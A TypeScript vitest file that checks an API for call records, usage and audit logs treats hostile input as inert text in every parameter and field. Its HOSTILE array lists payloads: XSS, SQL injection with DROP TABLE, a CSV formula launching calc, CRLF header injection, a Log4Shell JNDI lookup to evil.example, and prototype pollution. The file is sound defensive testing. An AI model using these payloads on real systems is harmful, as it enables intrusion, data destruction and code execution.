/** Text that is markup, SQL, a formula or a header to somebody, in every parameter and in every field (field.md D3, D4, D14, D18). */
import { describe, expect, it } from 'vitest';
import type { CallRecord } from '../record/record.ts';
import { callRecord, idOf } from '../testing/call-record.ts';
import { memoryStore } from '../testing/memory-store.ts';
import { recordsStage, ROOT } from '../testing/records-stage.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  "'; DROP TABLE records; --",
  '%',
  '_%_',
  '\\',
  '=cmd|" /C calc"!A0',
  'a\r\nset-cookie: x=1',
  'a\u0000b',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '__proto__',
  '\u202egpj.exe',
  '\ud800',
];
const PARAMETERS = [
  'from',
  'to',
  'user',
  'model',
  'provider',
  'client',
  'tool',
  'actor',
  'action',
  'target',
  'status',
  'outcome',
  'session',
  'failed',
  'q',
  'limit',
  'max',
  'cursor',
  'format',
  'by',
  '<script>alert(1)</script>',
];

/** A record that has the text wherever there can be text. */
function recordOf(text: string): CallRecord {
  const record = callRecord(1);
  return {
    ...record,
    identity: { login: text, node: text, tags: [text], source: text },
    client: { name: text, version: text },
    method: text,
    path: text,
    format: text,
    modelAsked: text,
    model: text,
    provider: text,
    route: { ...record.route!, grant: text, url: text },
    error: text,
    answer: {
      ...record.answer!,
      model: text,
      id: text,
      stopReason: text,
      toolCalls: { count: 1, names: [text] },
    },
    cost: { nanoDollars: 1, basis: text, source: text },
    session: text,
  };
}
const CAPTURE = (text: string) => {
  const message = { headers: ['x-odd', text], body: text, cut: null };
  return { request: message, response: message };
};

/** No browser takes the answer for a page, whatever is in it. */
function expectInert(answer: Response): void {
  expect(answer.headers.get('content-type')).toMatch(
    /^(?:application\/(?:json|jsonl|problem\+json)|text\/csv)(?:;|$)/,
  );
  expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
  expect(answer.headers.get('cache-control')).toBe('no-store');
  expect([...answer.headers.keys()].filter((name) => /^access-control|cookie|location/.test(name))).toEqual(
    [],
  );
}

describe.each(HOSTILE)('%j', (text) => {
  it('is text in every parameter, and finds nothing that it is not', async () => {
    const { get, kept } = recordsStage(memoryStore({ record: callRecord(1), capture: null }));
    for (const path of ['records', 'usage', 'sessions', 'tools', 'audit', `records/${idOf(1)}`]) {
      for (const name of PARAMETERS) {
        const answer = await get(`${path}?${new URLSearchParams([[name, text]])}`, ROOT);
        expect([path, name, answer.status]).toEqual([path, name, expect.toBeOneOf([200, 422])]);
        expectInert(answer);
        const body = (await answer.json()) as Record<'records' | 'rows' | 'sessions', unknown[] | undefined>;
        // The audit log has the text by now: it was looked for.
        if (answer.status === 200 && path !== 'audit')
          expect(body.records ?? body.rows ?? body.sessions).toEqual([]);
      }
    }
    expect((await get(`records/${encodeURIComponent(text.replace('\ud800', '\ufffd'))}`, ROOT)).status).toBe(
      404,
    );
    expect(kept.entries).toHaveLength(1);
  });

  it('is text in every field', async () => {
    const record = recordOf(text);
    const { get } = recordsStage(memoryStore({ record, capture: CAPTURE(text) }));
    await get(`usage?${new URLSearchParams([['user', text]])}`, ROOT);
    // A lone surrogate has no bytes.
    const told = text.replace('\ud800', '\ufffd');
    const paths = [
      'records',
      `records/${idOf(1)}`,
      'records?format=jsonl',
      'usage?by=user,model,client',
      'sessions',
      'tools?by=tool,user,model,client',
    ];
    for (const path of paths) {
      const answer = await get(path, ROOT);
      expectInert(answer);
      const strings: string[] = [];
      JSON.parse(await answer.text(), (_key, value: unknown) => {
        if (typeof value === 'string') strings.push(value);
        return value;
      });
      expect(strings.filter((value) => value === told || value === text).length).toBeGreaterThan(2);
    }
    for (const path of [
      'records',
      'usage?by=user,model,client',
      'sessions',
      'tools?by=user,tool',
      `audit?${new URLSearchParams([['q', text.replace('\ud800', '\ufffd')]])}`,
    ]) {
      const answer = await get(path, ROOT, { headers: { accept: 'text/csv' } });
      expectInert(answer);
      const lines = await answer.text();
      expect(lines).not.toMatch(/(?:^|,|\n)"?[=@]/);
      expect(lines).toContain(told.replaceAll('"', '""'));
    }
  });
});

// No query can hold a lone surrogate.
it.each(HOSTILE.filter((text) => text !== '\ud800'))('%j is found by those who look for it', async (text) => {
  const { get } = recordsStage(memoryStore({ record: recordOf(text), capture: null }));
  for (const name of ['user', 'model', 'provider', 'client', 'session', 'q']) {
    const answer = await get(`records?${new URLSearchParams([[name, text]])}`, ROOT);
    expect([name, ((await answer.json()) as { records: unknown[] }).records.length]).toEqual([name, 1]);
  }
});
